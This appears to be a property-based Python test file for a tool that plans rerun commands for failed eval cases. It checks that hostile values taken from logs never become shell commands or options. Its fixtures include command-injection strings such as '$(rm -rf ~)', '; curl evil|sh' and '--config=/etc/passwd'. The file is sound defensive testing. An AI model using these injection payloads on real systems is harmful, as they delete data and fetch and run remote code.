"""Whatever a log calls its cases, models and folders: nothing of it leaves its place in a command."""

import re
import shlex
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from wishes import a_request, failed

from errata.model import SourceRef, Subject
from errata.rerun import PLANNERS, plan_for

NASTY = st.sampled_from(
    [
        "$(rm -rf ~)",
        "; curl evil|sh",
        "`id`",
        "-rf",
        "--upload",
        "a\nb",
        "a\x00b",
        "\u202ea",
        "x,y",
        "*",
        "'",
        '"',
        "a b",
    ]
)
TEXT = st.one_of(NASTY, st.text(max_size=30), st.from_regex(r"[a-z0-9/_.-]{1,20}", fullmatch=True))
NAMES = st.one_of(TEXT, st.sampled_from(["test-001", "turn-7", "test-001/T0/00", "case-1", "a plain description"]))
VERSIONS = st.sampled_from(["", "terminal-bench", "batch summary 1", "batch summary 2", "checkpoint 3.1", "export 1"])
DANGEROUS = re.compile(r"[\x00-\x1f\x7f-\x9f`$;&<>\u202a-\u202e\u2066-\u2069]")


@st.composite
def requests(draw: st.DrawFn) -> Any:
    eval_ = {"task": draw(TEXT), "task_file": draw(TEXT), "task_args_passed": {draw(TEXT): draw(TEXT)}}
    config = {
        "datasets": [{"name": "suite", "version": draw(TEXT)}],
        "tiers": [draw(TEXT)],
        "runs": draw(st.integers()),
    }
    return a_request(
        draw(st.sampled_from([*PLANNERS, "generic"])),
        [
            failed(case, native_status=draw(st.sampled_from(["ERROR", "FAIL"])), broke=draw(st.booleans()))
            for case in draw(st.lists(NAMES, min_size=1, max_size=6))
        ],
        version=draw(VERSIONS),
        native_id=draw(st.one_of(TEXT, st.just("eval-waB-2026-11-15T19:42:23"))),
        subject=Subject(model=draw(TEXT), provider=draw(TEXT), agent=draw(TEXT), params={"seed": draw(st.integers())}),
        suite=draw(st.one_of(TEXT, st.just("suite"))),
        suite_version=draw(TEXT),
        variant={"mode": "rehydrated", "experiment": draw(TEXT), "prompt": draw(TEXT)},
        origin=draw(st.one_of(st.just("/data/a b/first-test-001"), TEXT.map(lambda text: f"/data/{text}"))),
        ref=SourceRef(file=draw(TEXT)),
        roles={"judge": draw(TEXT)},
        extra={"eval": eval_, "config": config, "provider": {"id": draw(TEXT)}, "prompt label": draw(TEXT)},
    )


@given(requests())
def test_every_attempt_is_in_one_command_or_left_to_the_user(request):
    plan = plan_for(request)

    planned = [one for command in plan.commands for one in command.attempts] + [one.attempt for one in plan.by_hand]
    assert sorted(map(id, planned)) == sorted(map(id, request.attempts))


@given(requests())
def test_no_word_of_a_command_holds_what_a_shell_or_a_terminal_acts_on(request):
    for command in plan_for(request).commands:
        path = str(request.run.origin)
        for word in command.words:
            # a path of this machine may hold anything that can be seen, because it is quoted
            assert not DANGEROUS.search(re.sub(r"\^.*\$$", "", word.replace(path, ""))), word
            assert word.isprintable()


@given(requests())
def test_what_is_printed_is_what_was_meant(request):
    for command in plan_for(request).commands:
        assert shlex.split(command.line) == command.words


@given(requests())
def test_no_value_of_a_log_becomes_an_option(request):
    known = {"-T", "--no-cache", "--rehydrate", "--tests", "--tiers", "--disable-vad"}
    for command in plan_for(request).commands:
        bare = {word for word in command.argv if word.startswith("-") and "=" not in word}
        assert bare <= known


@pytest.mark.parametrize("source", [*PLANNERS, "generic", "errata-jsonl"])
def test_a_hostile_name_is_never_part_of_a_command(source):
    cases = ["$(rm -rf ~)", "x; curl evil.example | sh", "a\nb", "--config=/etc/passwd", "case-\u202e1"]

    plan = plan_for(a_request(source, cases, origin="/data/first", variant={"mode": "rehydrated"}))

    assert not any(case in command.line for command in plan.commands for case in cases)
    assert {one.attempt.case for one in plan.by_hand} | {c for command in plan.commands for c in command.cases} == set(
        cases
    )


def test_a_harness_that_nobody_knows_has_no_command():
    plan = plan_for(a_request("my-harness", ["case-1"]))

    assert (plan.by_hand[0].why_not, plan.by_hand[0].about) == ("no_planner", "my-harness")


def test_a_command_that_redaction_would_change_is_not_given():
    request = a_request("convex-evals", ["a/b"], origin="/data", subject=Subject(model="acme/API_KEY=abcdefgh"))

    assert plan_for(request).commands == ()
